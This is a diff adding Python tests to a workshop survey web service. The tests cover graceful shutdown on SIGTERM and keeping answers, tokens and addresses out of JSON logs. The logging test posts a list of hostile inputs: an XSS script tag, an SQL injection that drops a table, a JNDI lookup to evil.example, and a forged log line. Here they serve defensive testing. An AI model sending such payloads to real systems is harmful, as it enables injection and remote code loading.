@@ -227,3 +227,154 @@ def test_serve_survey_names_the_workshops_to_choose_from(tmp_path) -> None:
     (line,) = err.strip().splitlines()
     assert "holds 2 workshops" in line and "--workshop N" in line and "1 Billing" in line, line
     assert out == ""
+
+
+def _first_lines(process: subprocess.Popen[str]) -> tuple[int, str, str]:
+    link = LINK.match(process.stdout.readline().strip())
+    join = JOIN.match(process.stdout.readline().strip())
+    assert link and join
+    return int(link.group(2)), link.group(3), join.group(2)
+
+
+def _stop(process: subprocess.Popen[str]) -> tuple[str, str]:
+    try:
+        process.send_signal(signal.SIGTERM)
+        return process.communicate(timeout=60)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.communicate()
+
+
+def test_sigterm_lets_the_request_in_flight_finish(workshop, tmp_path) -> None:
+    """A phone is half-way through sending its answer when the service manager stops
+    the service: the answer is stored and thanked for, then the process exits 0."""
+    import time
+    from urllib.parse import urlencode
+
+    process = start(str(workshop), "--host", "127.0.0.1", "--log-format", "json", cwd=tmp_path)
+    try:
+        port, path, _code = _first_lines(process)
+        with socket.create_connection(("127.0.0.1", port), timeout=30) as phone:
+            phone.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
+            form = b""
+            while b"</html>" not in form:
+                form += phone.recv(65536)
+        nonce = NONCE.search(form.decode()).group(1)
+        body = urlencode({"nonce": nonce, "answer": "Sent while the service stopped"}).encode()
+        slow = socket.create_connection(("127.0.0.1", port), timeout=30)
+        try:
+            slow.sendall(
+                (
+                    f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
+                    "Content-Type: application/x-www-form-urlencoded\r\n"
+                    f"Content-Length: {len(body)}\r\n\r\n"
+                ).encode()
+                + body[:10]
+            )
+            process.send_signal(signal.SIGTERM)
+            # The service has begun to stop once it takes no new connections.
+            deadline = time.monotonic() + 30
+            while time.monotonic() < deadline:
+                try:
+                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
+                except OSError:
+                    break
+                time.sleep(0.05)
+            else:
+                raise AssertionError("the service kept taking new connections after SIGTERM")
+            slow.sendall(body[10:])
+            reply = b""
+            while b"</html>" not in reply:
+                chunk = slow.recv(65536)
+                if not chunk:
+                    break
+                reply += chunk
+        finally:
+            slow.close()
+        out, err = process.communicate(timeout=60)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.communicate()
+    assert reply.startswith(b"HTTP/1.1 200"), reply[:200]
+    assert b"Thank you" in reply
+    assert process.returncode == 0, err
+    assert "Stopped. 1 answer(s) arrived from phones." in out
+    service = WorkshopService.open(workshop)
+    try:
+        assert [answer.text for answer in service.load().answers] == ["Sent while the service stopped"]
+    finally:
+        service.close()
+
+
+HOSTILE = [
+    "<script>alert('x')</script>",
+    "'; DROP TABLE survey_answer; --",
+    "%s %(message)s {0} ${jndi:ldap://evil.example/a}",
+    'line one\n{"level": "error", "message": "forged"}',
+    "Çok güzel bir ekip 😀 " * 40,
+]
+
+
+def test_json_logs_hold_events_but_no_answers_tokens_codes_or_addresses(workshop, tmp_path) -> None:
+    import http.client
+    import json
+
+    process = start(str(workshop), "--host", "127.0.0.1", "--log-format", "json", cwd=tmp_path)
+    try:
+        port, path, code = _first_lines(process)
+        for text in HOSTILE:
+            assert post_answer(port, path, text) == 200
+        # Requests that fail in other ways: a wrong code, a made-up link, a bad form.
+        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+        try:
+            connection.request("GET", "/a/not-the-token-" + "x" * 10)
+            connection.getresponse().read()
+            connection.request("GET", "/healthz")
+            health = json.loads(connection.getresponse().read())
+            connection.request(
+                "POST", path, "nonce=forged&answer=x", {"Content-Type": "application/x-www-form-urlencoded"}
+            )
+            connection.getresponse().read()
+        finally:
+            connection.close()
+        _out, err = _stop(process)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.communicate()
+    assert process.returncode == 0, err
+    assert health == {"database": "reachable", "status": "ok", "workshops": 1}
+    events = [json.loads(line) for line in err.splitlines()]
+    assert {"started", "stopping", "stopped"} <= {event.get("event") for event in events}
+    assert all(
+        set(event)
+        <= {
+            "time",
+            "level",
+            "logger",
+            "message",
+            "event",
+            "workshop",
+            "workshops",
+            "port",
+            "stored",
+            "traceback",
+        }
+        for event in events
+    )
+    token = path.rsplit("/", 1)[1]
+    for secret in [
+        token,
+        code,
+        code.replace(" ", ""),
+        "127.0.0.1",
+        "not-the-token",
+        "forged",
+        "DROP TABLE",
+        "script",
+        "jndi",
+        "güzel",
+    ]:
+        assert secret not in err, secret
